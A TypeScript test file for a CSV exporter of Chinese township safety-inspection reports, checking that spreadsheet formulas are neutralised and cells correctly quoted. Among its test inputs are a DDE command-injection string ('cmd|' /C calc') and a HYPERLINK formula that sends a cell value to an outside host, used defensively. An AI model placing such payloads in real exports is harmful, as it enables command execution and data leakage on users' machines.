import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { TownshipMonthRecord } from '../domain/records';
import { townshipMonthRecord } from '../testing/factories';
import { csvBytes, csvCell, recordsToTemplateCsv, toCsv, UTF8_BOM } from './csv';
import { isFormulaLike, neutraliseFormula } from './formula-guard';

/** Parses CSV text the way a spreadsheet would see the cells (no type guessing). */
const parse = (csv: string): string[][] =>
  Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true, newline: '\r\n' }).data;

describe('formula neutralisation', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['=1+1\n备注', "'=1+1\n备注"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－5', "'－5"],
    ['＠A1', "'＠A1"],
    [' =1+1', "' =1+1"],
    ['\u3000=1+1', "'\u3000=1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['-5', "'-5"],
    ["'=1", "''=1"],
  ])('prefixes %j', (input, expected) => {
    expect(isFormulaLike(input)).toBe(true);
    expect(neutraliseFormula(input)).toBe(expected);
  });

  it.each(['小召乡', '隐患12处', '', ' ', '备注：=不是公式', "it's", '1-2月', 'a=b'])(
    'leaves %j alone',
    (input) => {
      expect(isFormulaLike(input)).toBe(false);
      expect(neutraliseFormula(input)).toBe(input);
    },
  );
});

describe('csvCell', () => {
  it.each<[string | number | null, string]>([
    [null, ''],
    [-5, '-5'],
    [0, '0'],
    [-0, '0'],
    [412, '412'],
    [1.25, '1.25'],
    [Number.NaN, ''],
    ['-5', "'-5"],
    ['城关镇', '城关镇'],
    ['a,b', '"a,b"'],
    ['他说"好"', '"他说""好"""'],
    ['第一行\n第二行', '"第一行\n第二行"'],
    ['第一行\r\n第二行', '"第一行\r\n第二行"'],
    [' 前空格', '" 前空格"'],
    ['后空格 ', '"后空格 "'],
    ['=1+1\n备注', `"'=1+1\n备注"`],
    // After the prefix the space is no longer leading, so no quotes are needed.
    [' =1+1', "' =1+1"],
  ])('%j → %j', (cell, expected) => {
    expect(csvCell(cell)).toBe(expected);
  });

  it('can write raw text without the prefix', () => {
    expect(csvCell('=1+1', { neutraliseFormulas: false })).toBe('=1+1');
  });
});

describe('toCsv', () => {
  const table = {
    columns: [
      { key: 'township', label: '乡镇（街道）' },
      { key: 'found', label: '排查隐患（处）' },
      { key: 'note', label: '备注' },
    ],
    rows: [
      ['小召乡', 12, '=HYPERLINK("http://x/?"&A1,"点击")'],
      ['城关镇', null, '整改中,待复查\n下月复查'],
      ['东关街道', -5, ' 前后空格 '],
    ],
  } as const;

  it('uses CRLF, a header row and a final line end', () => {
    const csv = toCsv(table);
    expect(csv.startsWith('乡镇（街道）,排查隐患（处）,备注\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(5); // header + 3 rows + '' after the final CRLF
  });

  it('parses back to the same cells (numbers as digits, text neutralised)', () => {
    expect(parse(toCsv(table))).toEqual([
      ['乡镇（街道）', '排查隐患（处）', '备注'],
      ['小召乡', '12', `'=HYPERLINK("http://x/?"&A1,"点击")`],
      ['城关镇', '', '整改中,待复查\n下月复查'],
      ['东关街道', '-5', ' 前后空格 '],
    ]);
  });

  it('pads short rows and writes a header-only file for no rows', () => {
    expect(toCsv({ columns: table.columns, rows: [['小召乡']] })).toBe(
      '乡镇（街道）,排查隐患（处）,备注\r\n小召乡,,\r\n',
    );
    expect(toCsv({ columns: table.columns, rows: [] })).toBe('乡镇（街道）,排查隐患（处）,备注\r\n');
  });

  it('csvBytes starts with exactly one UTF-8 BOM and decodes to the text', () => {
    const bytes = csvBytes('月份\r\n2024-03\r\n');
    expect([...bytes.slice(0, 3)]).toEqual([...UTF8_BOM]);
    expect(bytes[3]).not.toBe(0xef);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(3))).toBe('月份\r\n2024-03\r\n');
  });
});

const record = (over: Partial<TownshipMonthRecord>): TownshipMonthRecord =>
  townshipMonthRecord(
    '小召乡',
    '2022-04',
    {
      units_inspected: 36,
      hazards_found: 12,
      hazards_rectified: 10,
      hazards_major_found: 0,
      hazards_major_rectified: 0,
      meetings_held: 2,
      trainings_held: 1,
      training_person_times: 1600,
      accidents: 0,
      deaths: 0,
      rectification_funds_10k_yuan: 1.5,
    },
    {
      report_date: '2022-04-27',
      focus_sectors: ['fireworks', 'natural_hazards'],
      problems_text: '一是企业主体责任落实不到位；二是重安排轻落实。',
      source: { file: 'x.csv', line: 2 },
      ...over,
    },
  );

describe('recordsToTemplateCsv', () => {
  it('writes the Chinese template headers and values, null as empty, 0 as 0', () => {
    const rows = parse(
      recordsToTemplateCsv([record({ approx: ['training_person_times'], remarks: '=1+1' })]),
    );
    const header = rows[0] ?? [];
    const row = rows[1] ?? [];
    const at = (h: string) => row[header.indexOf(h)];
    expect(header.slice(0, 3)).toEqual(['乡镇（街道）', '月份', '报送日期']);
    expect(header).toContain('培训（场次）');
    expect(header).toContain('培训（人次）');
    expect(header).not.toContain('统计口径');
    expect(at('月份')).toBe('2022-04');
    expect(at('排查隐患（处）')).toBe('12');
    expect(at('其中重大隐患（处）')).toBe('0');
    expect(at('出动检查人员（人次）')).toBe('');
    expect(at('整改资金（万元）')).toBe('1.5');
    expect(at('培训（人次）')).toBe('约1600');
    expect(at('重点行业领域')).toBe('烟花爆竹；防灾减灾');
    expect(at('备注')).toBe("'=1+1");
  });

  it('adds the scope column only when a year-to-date record is present', () => {
    const rows = parse(recordsToTemplateCsv([record({}), record({ period_scope: 'ytd' })]));
    expect(rows[0]?.[2]).toBe('统计口径');
    expect(rows.map((r) => r[2])).toEqual(['统计口径', 'month', 'ytd']);
  });

  it('writes only the header for no records', () => {
    expect(parse(recordsToTemplateCsv([]))).toHaveLength(1);
  });
});
